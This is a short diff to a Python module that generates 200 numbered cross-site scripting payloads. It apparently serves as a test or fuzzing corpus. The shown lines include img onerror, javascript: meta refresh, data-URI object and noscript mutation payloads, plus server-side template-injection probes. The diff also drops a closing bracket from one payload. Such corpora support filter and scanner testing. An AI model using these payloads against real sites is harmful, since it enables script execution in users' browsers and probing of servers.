@@ -1,4 +1,4 @@
-"""Texts that try to run a script wherever a page would let them: 200 of them, each told apart by its number."""
+"""Texts that try to run a script wherever a page would let them: 200, each told apart by its number."""
 
 from itertools import product
 
@@ -23,7 +23,7 @@ _WAYS = (
     "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
     "<style>@import 'data:text/css,*{{background:url(x)}}';</style><img src=x onerror={run}>",
     "<object data='data:text/html,<script>parent.{run}</script>'></object>",
-    "<template><img src=x onerror={run}></template><noscript><p title='</noscript><img src=x onerror={run}>'>",
+    "<template><img src=x onerror={run}></template><noscript><p title='</noscript><img src=x onerror={run}>'",
     "{{{{ self.__init__.__globals__ }}}}{{% set x = cycler %}}${{7*7}}<%= 7*7 %><img src=x onerror={run}>",
 )
 _BREAKS = (
